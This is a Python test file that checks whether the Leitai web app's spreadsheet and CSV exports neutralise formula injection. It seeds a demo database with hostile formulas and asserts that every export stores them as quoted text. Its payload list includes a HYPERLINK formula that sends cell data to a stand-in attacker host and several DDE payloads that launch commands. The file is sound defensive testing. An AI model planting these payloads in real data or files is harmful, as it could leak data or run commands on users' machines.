"""Every spreadsheet Leitai offers (pages, API, CLI), with a formula in every text field: no cell is a formula.

The small demo city (a published arena, published rankings, assessments, items, pledges and projects) is
loaded, then every free text in the database — names, titles, reasons, questions, pledges, the names frozen in
published results — is replaced by a formula (one of `=`, `+`, `-`, `@`, tab, carriage return in front).
Each export must then hold those texts as text: in .xlsx no formula cell and the quote-prefix flag on every
formula-looking text; in .csv a `'` in front (core.io.cells), numbers excepted. Each export must also contain at
least one such text, so the check cannot pass on an export that lost them.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner
from django.db import models
from django.urls import reverse

from leitai.core.io.cells import formula_like

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
# Text fields that are codes, keys or machine values (never free text a user typed for people to read).
KEEP = {"code", "source", "token_hash", "token_hint", "anon_code", "seed", "draw_seed", "client_key", "kind_label",
        "slides_name", "file_name", "password", "username", "measure", "short_name", "name_en", "action",
        "from_state", "to_state", "channel", "error", "batch", "raiser_token", "token", "content_type", "sha256",
        "stored_name", "original_name", "email", "first_name", "last_name", "shape", "verdict", "method",
        "status", "ref", "data", "prev_hash", "hash", "receipt", "secret"}
TEXT_KEYS = {"name", "unit_name", "person", "title", "zh", "en", "reason", "text", "label"}


def _hostile(n: int) -> str:
    return f"{PAYLOADS[n % len(PAYLOADS)]} #{n}"


def _poison_json(value, counter):
    if isinstance(value, dict):
        return {k: (_hostile(next(counter)) if k in TEXT_KEYS and isinstance(v, str) and v else _poison_json(v, counter))
                for k, v in value.items()}
    if isinstance(value, list):
        return [_poison_json(v, counter) for v in value]
    return value


def poison_everything() -> int:
    """Replace every free text in the database with a formula; returns how many values were replaced."""
    import itertools

    from django.apps import apps

    counter = itertools.count(1)
    done = 0
    for label in ("units", "indicators", "rankings", "arena", "tracking", "assessment", "accounts"):
        for model in apps.get_app_config(label).get_models():
            text_fields = [f for f in model._meta.concrete_fields
                           if isinstance(f, models.CharField | models.TextField) and not f.choices
                           and not f.unique and f.name not in KEEP and not isinstance(f, models.FileField)]
            json_fields = [f for f in model._meta.concrete_fields if isinstance(f, models.JSONField)]
            for obj in model._base_manager.all():
                changes = {}
                for f in text_fields:
                    if getattr(obj, f.attname):
                        changes[f.attname] = _hostile(next(counter))[:f.max_length or 10_000]
                for f in json_fields:
                    if getattr(obj, f.attname):
                        changes[f.attname] = _poison_json(getattr(obj, f.attname), counter)
                if changes:
                    # A queryset update: published rows refuse a save, and this stands for data that was
                    # already hostile when it was published.
                    model._base_manager.filter(pk=obj.pk).update(**changes)
                    done += len(changes)
    return done


def check_xlsx(data: bytes, name: str) -> int:
    """Assert no cell is a formula; returns how many formula-looking texts are held as text."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    held = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.quotePrefix, f"{name} {ws.title}!{cell.coordinate} lacks the quote prefix"
                    held += 1
    return held


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_csv(text: str, name: str) -> int:
    """Assert no field reads as a formula (numbers aside); returns how many fields were neutralised."""
    held = 0
    for line, row in enumerate(csv.reader(io.StringIO(text, newline="")), 1):
        for field in row:
            assert not formula_like(field) or _number(field), f"{name} line {line}: {field!r}"
            held += field.startswith("'") and formula_like(field[1:])
    return held


def check_zip(data: bytes, name: str) -> int:
    held = 0
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for member in zf.namelist():
            if member.endswith(".csv"):
                held += check_csv(zf.read(member).decode("utf-8"), f"{name}/{member}")
    return held


@pytest.fixture
def hostile_city(db, settings, tmp_path):
    from leitai.accounts.models import User
    from leitai.demo.loader import build
    from leitai.tracking.reviews import services as reviews

    settings.MEDIA_ROOT = tmp_path
    summary = build(seed=7, months=3, end="2024-02", counties=3, zones=1, departments=4, towns_per_county=2)
    organizer = User.objects.get(username="kaohe")
    reviews.create_round(organizer, "回头看", method="all", supervisors=User.objects.filter(role="supervisor"))
    assert poison_everything() > 1000
    return summary


def test_every_export_holds_formulas_as_text(hostile_city, client, tmp_path):
    from leitai.accounts.models import User
    from leitai.arena.models import Arena
    from leitai.assessment.models import Assessment
    from leitai.cli import main
    from leitai.rankings.models import Ranking
    from leitai.tracking.models import ReviewRound

    client.force_login(User.objects.get(username="kaohe"))
    ranking = Ranking.objects.filter(status="published").order_by("-pk").first()
    assessment = Assessment.objects.filter(status="published").order_by("-pk").first()
    arena = Arena.objects.get(status="published")
    rnd = ReviewRound.objects.order_by("-pk").first()  # this test's round (the demo has one too)
    xlsx = {
        "ranking bulletin": reverse("rankings:bulletin_xlsx", args=[ranking.pk]),
        "assessment bulletin": reverse("assessment:bulletin_xlsx", args=[assessment.pk]),
        "data template": reverse("indicators:template") + f"?period={ranking.period.code}&kind=county",
        "items": reverse("tracking:export_items"),
        "pledges": reverse("tracking:export_pledges"),
        "projects": reverse("tracking:export_projects"),
        "review round": reverse("tracking:export_review_round", args=[rnd.pk]),
        "reference figures": reverse("indicators:reference_export"),
    }
    zips = {
        "ranking bundle": reverse("rankings:export", args=[ranking.pk]),
        "ranking bundle (API)": f"/api/v1/rankings/rankings/{ranking.pk}/export",
        "assessment bundle": reverse("assessment:export", args=[assessment.pk]),
        "arena bundle": reverse("arena:export", args=[arena.pk]),
    }
    for name, url in xlsx.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert check_xlsx(response.content, name) > 0, f"{name}: no hostile text reached the export"
    for name, url in zips.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        check_zip(response.content, name)

    runner = CliRunner()
    # An assessment computed now counts the hostile reasons and pledges: its DETAIL.csv (free text) holds them
    # neutralised, and `leitai assess compute` still reproduces both files byte for byte.
    from leitai.assessment import services as assess

    organizer = User.objects.get(username="kaohe")
    corrected = assess.publish(organizer, assess.correct(organizer, assessment, "=更正"))
    bundle = client.get(reverse("assessment:export", args=[corrected.pk])).content
    assert check_zip(bundle, "assessment bundle") > 0
    with zipfile.ZipFile(io.BytesIO(bundle)) as zf:
        zf.extractall(tmp_path / "assess")
    d = tmp_path / "assess"
    result = runner.invoke(main, ["assess", "compute", "--inputs", str(d / "inputs.json"), "--out", str(d / "out.csv"),
                                  "--detail", str(d / "out-detail.csv")])
    assert result.exit_code == 0, result.output
    assert (d / "out.csv").read_bytes() == (d / "result.csv").read_bytes()
    assert (d / "out-detail.csv").read_bytes() == (d / "detail.csv").read_bytes()

    out = tmp_path / "projects.xlsx"
    result = runner.invoke(main, ["tracking", "export-projects", str(out)])
    assert result.exit_code == 0, result.output
    assert check_xlsx(out.read_bytes(), "leitai tracking export-projects") > 0
    result = runner.invoke(main, ["arena", "export", str(arena.pk), "--out", str(tmp_path / "arena")])
    assert result.exit_code == 0, result.output
    for path in (tmp_path / "arena").glob("*.csv"):
        check_csv(path.read_text("utf-8"), f"leitai arena export/{path.name}")


def test_a_formula_typed_into_an_export_by_hand_is_caught():
    """The checks themselves can fail: a workbook written past leitai.exports holds a live formula."""
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    raw = io.BytesIO()
    book.save(raw)
    with pytest.raises(AssertionError, match="is a formula"):
        check_xlsx(raw.getvalue(), "raw")
    with pytest.raises(AssertionError, match="line 2"):
        check_csv("unit,score\n=1+1,2\n", "raw.csv")


def test_leitai_exports_keeps_numbers_and_marks_text():
    from leitai import exports

    book = openpyxl.Workbook()
    book.active.append(["=1+1", "-2", -2, 3.5, "#N/A", "正常文字", "@x"])
    back = openpyxl.load_workbook(io.BytesIO(exports.save(book))).active
    cells = list(back.iter_rows())[0]
    assert [c.value for c in cells] == ["=1+1", "-2", -2, 3.5, "#N/A", "正常文字", "@x"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s", "s", "s"]
    assert [bool(c.quotePrefix) for c in cells] == [True, True, False, False, True, False, True]


def test_every_writer_of_spreadsheets_goes_through_the_one_helper():
    """A module that builds a workbook saves it with leitai.exports; a CSV writer lives in core.io and uses
    core.io.cells. Found by reading the source, so a new export cannot slip past the helper."""
    from pathlib import Path

    src = Path(__file__).resolve().parents[1] / "src" / "leitai"
    offenders = []
    for path in src.rglob("*.py"):
        if "migrations" in path.parts or path.name == "exports.py" and path.parent == src:
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text and "exports.save(" not in text:
            offenders.append(f"{path.relative_to(src)}: a workbook not saved by leitai.exports")
        if "csv.writer(" in text and ("csv_text(" not in text or "core/io" not in path.as_posix()):
            offenders.append(f"{path.relative_to(src)}: a CSV writer without core.io.cells.csv_text")
    assert offenders == []
